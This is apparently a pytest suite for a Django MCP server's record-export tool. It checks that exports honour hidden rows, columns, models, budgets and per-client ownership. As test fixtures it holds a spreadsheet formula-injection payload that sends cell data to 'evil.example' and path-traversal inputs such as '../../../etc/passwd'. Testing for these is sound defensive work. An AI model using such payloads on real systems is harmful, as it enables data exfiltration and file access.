"""Exports are no way round what a caller may not do: rows, columns and models that are hidden, budgets, limits.

What a file holds is what ``query_records`` shows the caller, and no text in it runs in a spreadsheet.
"""

import csv
import io
import json
import re
import zipfile
from datetime import date, datetime
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import orjson
import pytest
from django.contrib.auth.models import User
from django.core.files.storage import storages
from django.db import connection
from rest_framework import serializers

from mcp_django import MCPSite, ModelExposure
from mcp_django.context.call_restrictions import Narrowing
from mcp_django.exceptions import CallRefused, Cancelled, NotFound, NotPermitted, ToolError
from mcp_django.exports import questions
from mcp_django.exports.kept_exports import KeptExport
from mcp_django.models import Export
from mcp_django.operating.switches import set_switch
from mcp_django.orm.pagination import PageQuery
from mcp_django.tasks import run_task
from mcp_django.tools.export_records import ExportRecords
from mcp_django.tools.query_records import QueryRecords
from tests.configured import configured
from tests.factories import make_author, make_book, make_superuser, make_user
from tests.task_calls import TaskClient, WaitingClient
from tests.testapp.models import Author, Book, Loan, Tag
from tests.tool_calls import call, refusal, request_of, result_of, site_with

pytestmark = [pytest.mark.postgresql, pytest.mark.django_db]

MEMORY = {"BACKEND": "django.core.files.storage.InMemoryStorage"}
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
ENDPOINT = "http://testserver/mcp"


@pytest.fixture(autouse=True)
def storage(settings: Any, monkeypatch: Any) -> Any:
    monkeypatch.setattr(questions, "SIZES", (1, 2, 2))
    settings.STORAGES = {**settings.STORAGES, "mcp_exports": MEMORY}
    return storages["mcp_exports"]


class OwnBooks(ModelExposure):
    """Books of the caller alone, without their price."""

    fields = ("title", "author", "owner")

    def get_queryset(self, request: Any) -> Any:
        return super().get_queryset(request).filter(owner=request.user.pk)


@pytest.fixture
def site() -> MCPSite:
    site = MCPSite()
    site.register(Book, OwnBooks)
    site.register(Author, ModelExposure, fields=["name"])
    return site


@pytest.fixture
def reader() -> User:
    return make_user("reader", "testapp.view_book", "testapp.view_author")


def asking(user: Any, site: MCPSite, **options: Any) -> Any:
    return request_of(user, site, resource=ENDPOINT, **options)


def export(request: Any, **arguments: Any) -> dict[str, Any]:
    return call(ExportRecords(), request, **{"model": "testapp.book", **arguments})


def body(request: Any, told: Any) -> bytes:
    found = KeptExport.of_uri(request, told["uri"])
    with found.open() as file:
        return file.read()


def table(request: Any, **arguments: Any) -> list[list[str]]:
    text = body(request, export(request, **arguments)).decode("utf-8-sig")
    return [*csv.reader(io.StringIO(text, newline=""))]


def nothing_is_left(storage: Any) -> bool:
    try:
        return not storage.listdir("mcp_exports")[1] and not Export.objects.exists()
    except FileNotFoundError:
        return not Export.objects.exists()


def test_I_a_formula_in_a_cell_runs_in_no_spreadsheet(site: MCPSite, reader: User) -> None:
    make_book(FORMULA, owner=reader, author=make_author("@SUM(1+1)"))
    request = asking(reader, site)
    (_, row) = table(request, fields=["title", "author"])
    assert row[1] == f"'{FORMULA}"
    assert row[3] == "'@SUM(1+1)"
    (titles, _) = table(request, aggregates=[{"function": "count", "as": "n"}])
    assert titles == ["n"]


def test_I_nothing_of_the_caller_is_in_the_name_of_a_file(site: MCPSite, reader: User, storage: Any) -> None:
    request = asking(reader, site, client_id="../../client")
    told = export(request, filters={"title": "../../../etc/passwd"})
    assert re.fullmatch(r"testapp\.book-\d{4}-\d\d-\d\d\.csv", told["file"])
    (name,) = storage.listdir("mcp_exports")[1]
    assert re.fullmatch(r"[0-9a-f]{32}\.csv", name)
    assert "path" not in ExportRecords.input_schema["properties"]
    assert "format is one of" in refusal(ExportRecords(), request, model="testapp.book", format="../../x")


def test_G_rows_and_columns_that_are_hidden_are_in_no_file(site: MCPSite, reader: User) -> None:
    other = make_user("other", "testapp.view_book")
    make_book("mine", owner=reader, price="1.00")
    make_book("secret of another", owner=other, price="77.77")
    request = asking(reader, site)
    for format in ("csv", "jsonl", "xlsx"):
        found = body(request, export(request, format=format))
        assert b"secret of another" not in found
        assert b"77.77" not in found
    for arguments in (
        {"fields": ["price"]},
        {"ordering": ["price"]},
        {"filters": {"price__gt": 5}},
        {"aggregates": ["sum:price"]},
        {"group_by": ["price"]},
        {"fields": ["author.secret_token"]},
        {"fields": ["owner.password"]},
    ):
        with pytest.raises(Exception, match=r"has no (field|filter)|cannot be ordered"):
            ExportRecords().call(request, {"model": "testapp.book", **arguments})
    assert {row[0] for row in table(request, group_by=["title"])[1:]} == {"mine"}


def test_G_a_model_that_is_hidden_cannot_be_exported(site: MCPSite, reader: User) -> None:
    request = asking(reader, site)
    assert refusal(ExportRecords(), request, model="testapp.tag").startswith("No such model.")
    assert refusal(ExportRecords(), request, model="auth.user").startswith("No such model.")


def test_G_a_narrowed_call_exports_nothing_else(site: MCPSite, reader: User) -> None:
    facts = Narrowing.fact(["testapp.author"])
    request = asking(reader, site, facts=facts)
    Narrowing.apply(request)
    assert ExportRecords().has_permission(request)
    assert refusal(ExportRecords(), request, model="testapp.book").startswith("No such model.")
    export(request, model="testapp.author")


def test_G_a_call_shows_the_model_few_rows_whatever_a_file_has(site: MCPSite, reader: User, settings: Any) -> None:
    settings.MCP_DJANGO = {**settings.MCP_DJANGO, "MAX_PAGE_SIZE": 2}
    for number in range(5):
        make_book(f"Book {number}", owner=reader)
    told = export(asking(reader, site))
    assert told["rows"] == 5
    assert len(told["first_rows"]) == 2


def test_G_the_admin_that_forbids_exports_is_obeyed(reader: User, monkeypatch: Any) -> None:
    from mcp_django import site as default

    admin = default.exposures[Book].model_admin
    monkeypatch.setattr(type(admin), "has_export_permission", lambda self, request: request.user.is_superuser, False)
    request = asking(reader, default)
    with pytest.raises(NotPermitted, match="may not be exported"):
        ExportRecords().call(request, {"model": "testapp.book"})
    export(asking(make_superuser(), default))


def test_G_rows_of_a_file_are_taken_from_the_budget_and_its_end_leaves_no_file(storage: Any) -> None:
    user = make_superuser()
    for number in range(5):
        make_book(f"Book {number}")
    client = WaitingClient(user)
    with configured(BUDGETS={"user": {"rows_read": 3}}):
        refused = client.send("tools/call", {"name": "export_records", "arguments": {"model": "testapp.book"}}).json()
        assert "rows to read" in str(refused)
        assert nothing_is_left(storage)
        again = client.send("tools/call", {"name": "query_records", "arguments": {"model": "testapp.book"}}).json()
        assert "rows to read" in str(again)


def test_G_a_file_is_gone_with_what_its_question_needs(site: MCPSite, reader: User, monkeypatch: Any) -> None:
    make_book("mine", owner=reader)
    told = export(asking(reader, site))
    body(asking(reader, site), told)

    # A column is hidden, which the caller did not name either.
    with monkeypatch.context() as patch:
        patch.setattr(site.exposures[Book].options, "fields", ("id", "title"))
        with pytest.raises(Exception, match="has no field 'author'"):
            KeptExport.of_uri(asking(reader, site), told["uri"])

    # The caller sees other rows.
    with monkeypatch.context() as patch:
        patch.setattr(OwnBooks, "get_queryset", lambda self, request: Book.objects.filter(owner=None))
        with pytest.raises(NotPermitted):
            KeptExport.of_uri(asking(reader, site), told["uri"])

    # Files are forbidden.
    with monkeypatch.context() as patch:
        patch.setattr(OwnBooks, "has_export_permission", lambda self, request: False)
        with pytest.raises((NotPermitted, NotFound)):
            KeptExport.of_uri(asking(reader, site), told["uri"])

    # The permission is taken away.
    reader.user_permissions.clear()
    with pytest.raises(NotFound):
        KeptExport.of_uri(asking(User.objects.get(pk=reader.pk), site), told["uri"])


@pytest.mark.parametrize(("kind", "target"), [("tool", "export_records"), ("model", "testapp.book")])
def test_G_a_file_is_switched_off_with_its_tool_or_model(site: MCPSite, reader: User, kind: str, target: str) -> None:
    told = export(asking(reader, site))
    set_switch(kind, target)
    with pytest.raises(CallRefused, match="switched off"):
        KeptExport.of_uri(asking(reader, site), told["uri"])


def test_G_a_file_is_its_users_and_its_clients_alone(site: MCPSite, reader: User) -> None:
    told = export(asking(reader, site))
    other = make_user("other", "testapp.view_book", "testapp.view_author")
    for request in (asking(other, site), asking(reader, site, client_id="another")):
        with pytest.raises(NotFound):
            KeptExport.of_uri(request, told["uri"])
    for uri in (told["uri"][:-1], told["uri"].replace("export:", "export:0"), "export:", f"{told['uri']}/../x"):
        with pytest.raises(NotFound):
            KeptExport.of_uri(asking(reader, site), uri)


def test_E_a_client_that_goes_leaves_no_file(site: MCPSite, reader: User, storage: Any, monkeypatch: Any) -> None:
    for number in range(5):
        make_book(f"Book {number}", owner=reader)
    request = asking(reader, site)
    monkeypatch.setattr("mcp_django.exports.questions.read_page", cancelling(request, questions.read_page))
    with pytest.raises(Cancelled):
        ExportRecords().call(request, {"model": "testapp.book"})
    assert nothing_is_left(storage)


def cancelling(request: Any, read: Any) -> Any:
    """Return what reads a page, after which the client is gone."""

    def read_last(query: Any) -> Any:
        page = read(query)
        request.mcp.cancelled = True
        return page

    return read_last


# Tasks


@pytest.fixture
def large(monkeypatch: Any) -> None:
    """Count so few rows that a call with more goes on as a task."""
    monkeypatch.setattr(PageQuery, "COUNT_CAP", 3)
    for number in range(5):
        make_book(f"Book {number}")


def test_a_large_file_is_made_by_a_task_for_a_client_that_takes_one(large: None) -> None:
    client = TaskClient(make_superuser())
    task_id = client.begin("export_records", model="testapp.book")
    assert not Export.objects.exists()
    told = client.end(task_id)["structuredContent"]
    assert told["rows"] == 5
    assert client.poll(task_id)["status"] == "completed"
    small = client.call("export_records", model="testapp.book", filters={"title": "Book 1"})
    assert small.structured["rows"] == 1


def test_a_large_file_is_made_by_a_task_for_any_other_client(large: None, monkeypatch: Any) -> None:
    monkeypatch.setattr("mcp_django.tasks.caller_tasks.PATIENCE", 0)
    client = WaitingClient(make_superuser())
    assert "get_task" in [tool["name"] for tool in client.tools()]
    waiting = client.call("export_records", model="testapp.book").structured
    assert waiting["state"] == "working"
    run_task(waiting["task"])
    assert client.call("get_task", task=waiting["task"]).structured["rows"] == 5


def test_E_a_cancelled_task_leaves_no_file(large: None, storage: Any, monkeypatch: Any) -> None:
    client = TaskClient(make_superuser())
    task_id = client.begin("export_records", model="testapp.book")

    def cancel(self: Any, progress: float, *about: Any) -> None:
        """Cancel the task after its first page, and find that at the next sign of life."""
        if progress:
            client.request("tasks/cancel", taskId=task_id)
            self.stop()

    monkeypatch.setattr("mcp_django.tasks.heartbeats.Heartbeat.tell", cancel)
    # The first page is told however soon it comes.
    monkeypatch.setattr("mcp_django.context.request.PROGRESS_INTERVAL", 0)
    run_task(task_id)
    assert client.poll(task_id)["status"] == "cancelled"
    assert nothing_is_left(storage)


def test_E_what_a_lost_worker_leaves_is_found_by_the_daily_command(
    site: MCPSite, reader: User, storage: Any, monkeypatch: Any
) -> None:
    make_book("mine", owner=reader)

    class Killed(BaseException):
        """The worker is killed: nothing of it runs any more."""

    def killed(self: KeptExport, written: Any, rows: int) -> None:
        storage.save(self.row.stored, written)
        raise Killed

    monkeypatch.setattr(KeptExport, "finish", killed)
    monkeypatch.setattr(KeptExport, "delete", lambda self: False)
    with pytest.raises(Killed):
        ExportRecords().call(asking(reader, site), {"model": "testapp.book"})
    monkeypatch.undo()
    (row,) = Export.objects.all()
    with pytest.raises(NotFound):
        KeptExport.find(reader, site.name, row.pk)
    Export.objects.update(expires=row.created)
    KeptExport.purge()
    assert not Export.objects.exists()


def test_the_result_links_to_the_file(site: MCPSite, reader: User) -> None:
    make_book("mine", owner=reader)
    found = result_of(ExportRecords(), asking(reader, site), model="testapp.book")
    told = found.structured
    (link,) = found.content
    assert (link.uri, link.name, link.mime_type) == (told["uri"], told["file"], "text/csv")
    assert told["url"].startswith(f"{ENDPOINT}/exports/")
    assert told["columns"] == ["id", "title", "author", "owner"]
    local = export(request_of(reader, site, resource="stdio:"))
    assert "url" not in local
    assert "uri" in local["next"]


def test_G_tags_are_no_way_to_what_is_hidden(site: MCPSite, reader: User) -> None:
    Tag.objects.create(name="hidden tag")
    with pytest.raises(Exception, match="has no field"):
        export(asking(reader, site), fields=["tags"])


# Values that a page shows too


def cells_of_xlsx(found: bytes) -> list[list[Any]]:
    """Return the rows of a file, read as a spreadsheet reads it."""
    names = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(found)) as file:
        root = ElementTree.fromstring(file.read("xl/worksheets/sheet1.xml"))
    assert root.find(f".//{names}f") is None
    return [
        ["".join(cell.itertext()) if cell.get("t") else float("".join(cell.itertext())) for cell in row]
        for row in root.iter(f"{names}row")
    ]


def test_odd_values_are_those_of_a_page_in_every_format(reader: User) -> None:
    site = site_with(Book, Author, Loan, exclude=("secret_token",))
    book = make_book("a", price="-0.00", rating=5e-324, pages=2**31 - 1, published=date(1, 1, 1), blob=b"\0=\xff")
    make_book("b", price="-99.10", rating=-0.0, pages=0, published=date(1899, 12, 31), blob=b"=1+1")
    make_book("c", price="0.10", rating=1.7976931348623157e308, published=date(9999, 12, 31), data={"=1": ["=2"]})
    if connection.vendor == "postgresql":
        make_book("d", rating=float("nan"))
        make_book("e", rating=float("-inf"))
    berlin = ZoneInfo("Europe/Berlin")
    for fold in (0, 1):
        # This time came twice.
        Loan.objects.create(book=book, borrower="x", due=datetime(2025, 10, 26, 2, 30, tzinfo=berlin, fold=fold))
    user = make_superuser()
    fields = ["title", "price", "rating", "pages", "published", "blob", "data", "reading_time"]
    for model, names in (("testapp.book", fields), ("testapp.loan", ["due", "book.price"])):
        asked = {"model": model, "fields": names, "ordering": ["pk"]}
        page = call(QueryRecords(), asking(user, site), **asked)
        found = body(asking(user, site), export(asking(user, site), format="jsonl", **asked)).decode()
        assert [list(json.loads(line).values()) for line in found.splitlines()] == page["rows"]
        rows = table(asking(user, site), **asked)[1:]
        plain = [[guarded_text(value) for value in row] for row in page["rows"]]
        assert rows == plain
        sheet = cells_of_xlsx(body(asking(user, site), export(asking(user, site), format="xlsx", **asked)))
        assert len(sheet) == len(rows) + 1
        numbers = {cell for row in sheet[1:] for cell in row if isinstance(cell, float)}
        assert len(numbers) > 1


def guarded_text(value: Any) -> str:
    """Return what stands in a table for a value of a page: a number without a guard."""
    if value is None:
        return ""
    if isinstance(value, (dict, list)):
        return orjson.dumps(value).decode()
    return repr(value) if isinstance(value, float) else str(value)


def test_G_a_site_of_nothing_that_may_be_exported_has_no_such_tool(reader: User) -> None:
    alone = MCPSite()
    assert not ExportRecords().has_permission(asking(reader, alone))
    alone.register(Tag, ModelExposure, fields=["name"])
    assert not ExportRecords().has_permission(asking(reader, alone))
    assert ExportRecords().has_permission(asking(make_superuser(), alone))


def test_G_what_a_serializer_leaves_out_is_in_no_file(reader: User) -> None:
    class TitleSerializer(serializers.ModelSerializer):  # type: ignore[type-arg]
        class Meta:
            model = Book
            fields = ("id", "title")

    site = MCPSite()
    site.register(Book, ModelExposure, serializer_class=TitleSerializer)
    make_book("shown", price="77.77")
    request = asking(reader, site)
    for format in ("csv", "jsonl", "xlsx"):
        assert b"77.77" not in body(request, export(request, format=format))
    for arguments in ({"fields": ["price"]}, {"ordering": ["price"]}, {"aggregates": ["max:price"]}):
        with pytest.raises(ToolError):
            ExportRecords().call(request, {"model": "testapp.book", **arguments})
